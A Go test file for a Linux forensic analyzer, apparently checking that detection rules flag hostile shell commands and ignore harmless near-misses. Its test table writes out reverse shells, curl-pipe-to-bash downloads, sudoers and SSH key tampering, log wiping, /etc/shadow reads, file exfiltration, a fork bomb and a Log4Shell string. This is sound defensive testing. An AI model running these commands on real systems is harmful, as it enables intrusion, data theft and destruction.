package linux

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"forensic/analyzers"
	"forensic/analyzers/analyzertest"
	"forensic/analyzers/internal/golden"
	"forensic/store/event"
)

var start = time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC)

func titles(p *analyzers.Pass) string {
	var list []string
	for _, f := range p.Findings {
		list = append(list, f.Severity.String()+" "+f.Title)
	}
	return strings.Join(list, "; ")
}

// TestRules: each rule has a command that it must tell and a near one that it must not.
func TestRules(t *testing.T) {
	for _, test := range []struct{ hit, near, want string }{
		{"bash -c 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'", "ls /dev/tcpx", "Reverse shell"},
		{"nc 10.0.0.1 4444 -e /bin/sh", "nc -zv 10.0.0.1 22", "Reverse shell"},
		{`python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("1.2.3.4",1))'`, "python3 -c 'print(1)'", "Reverse shell"},
		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f", "mkfifo /run/pipe", "Reverse shell"},
		{"wget -q -O - http://203.0.113.7/c | bash", "wget -q http://deb.example/x.deb", "Download run by a shell"},
		{"curl -fsSL https://x.example/i.sh | sudo -E bash -", "curl -fsSL https://x.example | jq .", "Download run by a shell"},
		{"bash -c \"$(curl -s http://x.example/a)\"", "bash -c \"$(date)\"", "Download run by a shell"},
		{"echo aWQK | base64 -d | sh", "base64 -d key.b64 > key", "Encoded command run by a shell"},
		{"echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "ls -l /root/.ssh/authorized_keys", "Keys for log-on changed"},
		{"echo /tmp/x.so > /etc/ld.so.preload", "ldconfig /etc/ld.so.conf", "Preloaded library"},
		{"chmod u+s /tmp/bash", "chmod +x run.sh", "Set-user-id bit given"},
		{"chmod 4755 /tmp/bash", "chmod 0755 run.sh", "Set-user-id bit given"},
		{"unset HISTFILE", "history 20", "Shell history removed"},
		{"rm -f /root/.bash_history", "cat /root/.bash_history", "Shell history removed"},
		{"rm -rf /var/log/auth.log", "tail -f /var/log/auth.log", "Logs removed"},
		{"cat /dev/null > /var/log/wtmp", "last -f /var/log/wtmp", "Logs removed"},
		{"/usr/bin/cat /etc/shadow", "ls -l /etc/shadow", "Password hashes read"},
		{"echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "visudo -c", "Right to become root changed"},
		{"setenforce 0", "getenforce", "Security switched off"},
		{"systemctl stop auditd", "systemctl status auditd", "Security switched off"},
		{"./xmrig -o stratum+tcp://pool.example:3333", "ls xm", "Mining of coins"},
		{"find / -type f -perm -4000", "find / -name x", "Tool that looks for ways to become root"},
		{"docker run -v /:/mnt -it alpine", "docker run -v /srv:/srv alpine", "Escape from a container"},
		{"(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab -l", "Scheduled by a pipe or a written file"},
		{"cp evil.service /etc/systemd/system/", "systemctl daemon-reload", "Service or start file written"},
		{"insmod ./rootkit.ko", "lsmod", "Kernel module loaded by hand"},
		{"python -c 'import pty; pty.spawn(\"/bin/bash\")'", "python -m pytest", "Terminal made of a script"},
		{"touch -r /bin/ls /bin/evil", "touch /tmp/new", "Time of a file set by hand"},
		{"curl -T /tmp/loot.tgz http://1.2.3.4/", "curl http://1.2.3.4/loot", "File sent away"},
		{"ssh -N -R 2222:localhost:22 bob@1.2.3.4", "ssh bob@1.2.3.4", "Tunnel through SSH"},
		{":(){ :|:& };:", "a:|b", "Fork bomb"},
		{"curl -A '${jndi:ldap://1.2.3.4/a}' http://x", "grep jndi: app.log", "Lookup of a remote name in logged text (Log4Shell)"},
	} {
		names := func(command string) (list []string) {
			for _, r := range judge(command) {
				list = append(list, r.title)
			}
			return list
		}
		if got := names(test.hit); !slices.Contains(got, test.want) {
			t.Errorf("%s: %q, want %q", test.hit, got, test.want)
		}
		if got := names(test.near); slices.Contains(got, test.want) {
			t.Errorf("%s: %q", test.near, got)
		}
	}
}

func sudoCommand(at time.Duration, user, text, outcome string) analyzertest.Row {
	return analyzertest.Row{
		"dataset": "lab", "host_name": "web1", "class": "privilege", "event_provider": "sudo", "ts": start.Add(at), "user_name": user,
		"target_user_name": "root", "process_command_line": text, "event_outcome": outcome,
	}
}

func TestFindings(t *testing.T) {
	var fast, slow []analyzertest.Row
	for i := range 12 {
		fast = append(fast, sudoCommand(time.Duration(12-i)*300*time.Millisecond, "bob", "/usr/bin/id", "success"))
		slow = append(slow, sudoCommand(time.Duration(12-i)*time.Minute, "bob", "/usr/bin/id", "success"))
	}
	process := func(parent, image, text string) analyzertest.Row {
		return analyzertest.Row{
			"dataset": "lab", "host_name": "web1", "class": "process_start", "process_executable": image,
			"process_parent_executable": parent, "process_command_line": text, "ts": start,
		}
	}
	network := func(image, ip string) analyzertest.Row {
		return analyzertest.Row{"dataset": "lab", "host_name": "web1", "class": "network", "process_executable": image, "destination_ip": ip, "destination_port": 443, "ts": start}
	}
	account := func(provider, message, group string) analyzertest.Row {
		return analyzertest.Row{
			"dataset": "lab", "host_name": "web1", "class": "account", "event_provider": provider, "event_action": provider,
			"target_user_name": "eve", "resource": group, "message": message, "ts": start, "event_outcome": "success",
		}
	}
	for name, test := range map[string]struct {
		rows []analyzertest.Row
		want string
	}{
		"newest first and fast": {fast, "info Commands faster than a person types"},
		"newest first and slow": {slow, ""},
		"refused":               {[]analyzertest.Row{sudoCommand(0, "eve", "/bin/ls", "failure")}, "low Refused sudo"},
		"root shell":            {[]analyzertest.Row{sudoCommand(0, "eve", "/bin/bash", "success"), sudoCommand(0, "eve", "/bin/bash x.sh", "success")}, "info Root shell through sudo"},
		"risky, twice":          {[]analyzertest.Row{sudoCommand(0, "eve", "unset HISTFILE", "success"), sudoCommand(0, "eve", "unset HISTSIZE", "success")}, "medium Shell history removed"},
		"web shell":             {[]analyzertest.Row{process("/usr/sbin/apache2", "/bin/sh", "sh -c id")}, "medium Shell or tool started by a server process"},
		"worker":                {[]analyzertest.Row{process("/usr/sbin/apache2", "/usr/sbin/apache2", "apache2 -k start")}, ""},
		"shell connects":        {[]analyzertest.Row{network("bash", "192.0.2.1")}, "high Shell with a network connection"},
		"shell to itself":       {[]analyzertest.Row{network("/bin/bash", "127.0.0.1"), network("/usr/bin/curl", "192.0.2.1")}, ""},
		"second root":           {[]analyzertest.Row{account("useradd", "new user: name=eve, UID=0, GID=0", "")}, "high Second account with user id 0"},
		"new user":              {[]analyzertest.Row{account("useradd", "new user: name=eve, UID=1001, GID=0", "")}, "low Account created"},
		"administrator":         {[]analyzertest.Row{account("usermod", "add 'eve' to group 'sudo'", "sudo")}, "medium Account put into a group of administrators"},
		"other group":           {[]analyzertest.Row{account("usermod", "add 'eve' to group 'mail'", "mail")}, ""},
	} {
		p := analyzertest.Run(t, Analyzer, append(test.rows, process("", "/usr/bin/ls", "ls"))...)
		if got := titles(p); got != test.want {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
	}
	p := analyzertest.Run(t, Analyzer, analyzertest.Row{"dataset": "lab", "class": "process_start", "process_executable": `C:\Windows\cmd.exe`})
	if !p.Inapplicable {
		t.Error("Windows alone is taken for Linux")
	}
}

// TestPair: sessions of different processes may overlap, an end without a
// beginning is left out, a beginning without an end stays open.
func TestPair(t *testing.T) {
	at := func(host string, id, at int64, opens bool) mark {
		return mark{host: host, program: "sshd", user: "bob", id: id, at: at, opens: opens}
	}
	var got [][3]int64
	for _, s := range pair([]mark{
		at("a", 1, 0, false), at("a", 1, 10, true), at("a", 2, 20, true), at("a", 1, 30, false), at("b", 2, 35, false), at("a", 2, 40, false), at("a", 3, 50, true),
	}) {
		got = append(got, [3]int64{s.id, s.at, s.end})
	}
	if diff := cmp.Diff([][3]int64{{1, 10, 30}, {2, 20, 40}, {3, 50, event.Null}}, got); diff != "" {
		t.Error(diff)
	}
}

// TestSharedSessions pairs the sudo messages of MSTICPy's sample as MSTICPy does:
// where there is one machine and no overlap, the corrected pairing changes nothing.
func TestSharedSessions(t *testing.T) {
	root := golden.Folder(t)
	var marks []mark
	for _, r := range table(t, filepath.Join(root, "data/msticpy/testdata/sudo_session_test.csv")) {
		at, err := time.Parse(time.DateTime, r["TimeGenerated"])
		if err != nil {
			t.Fatal(err)
		}
		m := mark{host: r["Computer"], user: "root", by: r["Sudoer"], at: at.UnixMicro(), opens: strings.Contains(r["SyslogMessage"], "session opened")}
		if strings.Contains(r["SyslogMessage"], "session ") {
			marks = append(marks, m)
		}
	}
	slices.SortStableFunc(marks, func(a, b mark) int { return int(a.at - b.at) })
	var got, want []string
	for _, s := range pair(marks) {
		got = append(got, s.by+" "+time.UnixMicro(s.at).UTC().Format(time.DateTime)+" "+time.UnixMicro(s.end).UTC().Format(time.DateTime))
	}
	for _, r := range table(t, filepath.Join(root, "golden/syslog/sudo_session_test.sessions.csv")) {
		want = append(want, r["User"]+" "+r["Start"]+" "+r["End"])
	}
	if diff := cmp.Diff(want, got); diff != "" || len(want) != 5 {
		t.Error(diff)
	}
}

// table reads a CSV file with a header, without its byte order mark.
func table(t *testing.T, path string) (rows []map[string]string) {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(text), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func FuzzJudge(f *testing.F) {
	f.Add("curl x | sh")
	f.Add(strings.Repeat("chmod ", 1000))
	f.Fuzz(func(_ *testing.T, s string) { judge(s) })
}

func BenchmarkLinux(b *testing.B) {
	var rows []analyzertest.Row
	for i := range 20000 {
		rows = append(rows, sudoCommand(time.Duration(i)*time.Second, "bob", "/usr/bin/curl http://host"+string(rune('a'+i%26))+"/ -o /srv/x", "success"))
	}
	d := analyzertest.Data(b, rows...)
	b.ResetTimer()
	for b.Loop() {
		if err := Analyzer.Run(b.Context(), &analyzers.Pass{Data: d, Workers: 2}); err != nil {
			b.Fatal(err)
		}
	}
}
